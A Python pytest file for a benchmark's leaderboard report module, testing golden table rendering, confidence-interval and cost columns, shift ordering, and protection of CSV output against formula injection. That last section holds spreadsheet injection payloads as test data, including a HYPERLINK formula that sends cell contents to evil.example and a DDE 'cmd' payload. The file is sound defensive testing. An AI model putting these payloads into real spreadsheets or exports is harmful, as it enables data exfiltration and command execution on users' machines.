"""Tables from results only: the fixed results in harness/tests/golden/ render to fixed
tables in every format (set TTA_BENCH_UPDATE_GOLDEN=1 to rewrite the golden files after an
intended change, then read the diff)."""

from __future__ import annotations

import copy
import json
import os

import pytest

from tta_bench.report import leaderboard as report
from tta_bench.report import stats, tables

from .helpers import GOLDEN

RESULTS = [GOLDEN / "golden_zeroshot.json", GOLDEN / "golden_tent.json"]
SUFFIX = {"github": "md", "latex": "tex", "csv-formatted": "csv", "html": "html", "plain": "txt"}


def _check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("TTA_BENCH_UPDATE_GOLDEN") == "1":
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8"), f"{name} changed"


@pytest.mark.parametrize("fmt", list(SUFFIX))
def test_two_runs_render_to_the_golden_tables(fmt):
    _check_golden(f"table.{SUFFIX[fmt]}", report.render_tables(RESULTS, fmt))


def test_one_run_renders_shift_by_severity():
    text = report.render_tables([GOLDEN / "golden_tent.json"], "github")
    _check_golden("table_single.md", text)
    assert "| sev 3" in text and "| sev 5" in text


def test_summary_shows_ci_delta_p_and_ece():
    records = report.load_many(RESULTS)
    headers, rows = tables.summary_rows(records)
    row = dict(zip(headers, rows[1]))
    assert row["method"] == "tent"
    assert row["accuracy % (95% CI)"] == "48.8 ± 5.6"
    assert row["Δ vs zeroshot (95% CI)"] == "+3.8 [-1.8, +9.4]"
    assert row["p"] == "0.099"
    assert row["ECE %"] == "12.5"
    assert dict(zip(headers, rows[0]))["Δ vs zeroshot (95% CI)"] == "-"  # the baseline itself


def test_without_a_zeroshot_file_each_run_pairs_with_its_reference():
    records = report.load_many(RESULTS[1:])
    headers, rows = tables.summary_rows(records)
    assert "Δ vs zeroshot (reference) (95% CI)" in headers
    assert rows[0][headers.index("Δ vs zeroshot (reference) (95% CI)")] == "+3.8 [-1.8, +9.4]"


def test_an_absent_baseline_lists_the_methods():
    with pytest.raises(ValueError, match="methods: tent, zeroshot"):
        report.render_tables(RESULTS, "github", baseline="lora")


def test_cost_table_splits_time_three_ways():
    records = report.load_many(RESULTS)
    headers, rows = tables.cost_rows(records)
    tent = dict(zip(headers, rows[1]))
    assert (tent["data ms"], tent["adapt ms"], tent["predict ms"]) == ("0.100", "0.800", "0.000")
    assert tent["ms/sample"] == "0.900"
    assert (tent["peak MB"], tent["trainable params"]) == ("3.0", "2,560")
    assert (tent["fwd/sample"], tent["bwd/sample"]) == ("1.0", "1.0")


def test_results_without_the_split_render_a_dash():
    old = copy.deepcopy(json.loads(RESULTS[1].read_text()))
    for c in old["cells"]:
        del c["adapt_time_per_sample_s"], c["predict_time_per_sample_s"]
    headers, rows = tables.cost_rows([old])
    row = dict(zip(headers, rows[0]))
    assert (row["adapt ms"], row["predict ms"], row["data ms"]) == ("-", "-", "0.100")


def test_different_protocols_are_refused():
    with pytest.raises(stats.ProtocolMismatchError, match="different protocols"):
        report.render_tables([RESULTS[0], GOLDEN / "golden_tent_bs16.json"], "github")


def test_unknown_format_lists_the_formats():
    with pytest.raises(
        ValueError, match="github, markdown, latex, html, plain, csv-formatted, json, csv"
    ):
        report.render_tables(RESULTS, "rst")


def test_shifts_follow_the_protocol_order_not_the_file_order():
    """A resumed run appends the cells it recomputes after the kept ones; tables still list
    the shifts in the protocol's pinned order."""
    record = json.loads((GOLDEN / "golden_tent.json").read_text())
    pinned = record["protocol"]["shifts"]
    assert len(pinned) >= 2
    moved = copy.deepcopy(record)
    first = [c for c in moved["cells"] if c["shift"] == pinned[0]]
    moved["cells"] = [c for c in moved["cells"] if c["shift"] != pinned[0]] + first
    assert tables.shift_order([moved]) == pinned
    for fn in (tables.shift_table, lambda r, fmt: tables.method_shift_table([r], fmt)):
        assert fn(moved, "github") == fn(record, "github")
    extra = copy.deepcopy(record)
    extra["cells"].append({**extra["cells"][0], "shift": "zz_not_in_protocol"})
    assert tables.shift_order([extra]) == [*pinned, "zz_not_in_protocol"]


# -- CSV written from a stranger's results files: no formulas reach a spreadsheet ----------
#: Text cells a spreadsheet would read as formulas (OWASP "CSV injection").
FORMULAS = {
    "method": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "model": "@SUM(A1:A9)",
    "shift": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


def _hostile(tmp_path) -> list:
    """The golden runs with formulas for method, model and shift names, a suite name that
    tries to start a line of its own."""
    paths = []
    for name in ("golden_zeroshot.json", "golden_tent.json"):
        record = json.loads((GOLDEN / name).read_text(encoding="utf-8"))
        if record["method"] == "tent":
            record["method"] = FORMULAS["method"]
            record["model"]["name"] = FORMULAS["model"]
        record["suite"] = "golden\n=1+1"
        record["protocol"]["shifts"] = [FORMULAS["shift"], FORMULAS["tab"]]
        for c in record["cells"]:
            c["shift"] = {"gaussian_noise": FORMULAS["shift"], "contrast": FORMULAS["tab"]}[
                c["shift"]
            ]
        path = tmp_path / name
        path.write_text(json.dumps(record), encoding="utf-8")
        paths.append(path)
    return paths


def _dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("fmt", "shown"),
    [
        ("csv", list(FORMULAS)),
        ("csv-summary", ["method", "model"]),
        ("csv-formatted", list(FORMULAS)),
    ],
)
def test_csv_neutralises_formulas_from_results_files(tmp_path, fmt, shown):
    import csv
    import io

    text = report.render_tables(_hostile(tmp_path), fmt)
    assert not any(line.startswith(("=", "+", "-", "@", "\t")) for line in text.splitlines())
    rows = [r for r in csv.reader(io.StringIO(text)) if r and not r[0].startswith("#")]
    cells = {c for r in rows for c in r}
    assert {f"'{FORMULAS[k]}" for k in shown} <= cells  # there, quoted the OWASP way
    for c in cells:  # what still starts with + or - is a number, never a formula
        if c.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert c[0] in "+-" and not any(ch.isalpha() for ch in c), repr(c)


def test_csv_keeps_negative_numbers_numbers(tmp_path):
    import csv
    import io

    text = report.render_tables(_hostile(tmp_path), "csv-formatted")
    assert '"+3.8 [-1.8, +9.4]"' in text  # the formatted difference, as in golden/table.csv
    text = report.render_tables(_hostile(tmp_path), "csv-summary")
    tent = list(csv.DictReader(io.StringIO(text)))[1]
    assert float(tent["delta_ci_low"]) < 0 and tent["delta_ci_low"].startswith("-0.0")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-inf", "'-inf"),
        ("-0.3", "-0.3"),
        ("+1.5e-3", "+1.5e-3"),
        ("-", "-"),
        ("+3.8 [-1.8, +9.4]", "+3.8 [-1.8, +9.4]"),
        ("-1,234", "-1,234"),
        ("tent", "tent"),
        (-0.3, -0.3),
        (None, None),
    ],
)
def test_csv_cell_quotes_text_formulas_only(value, expected):
    assert tables.csv_cell(value) == expected
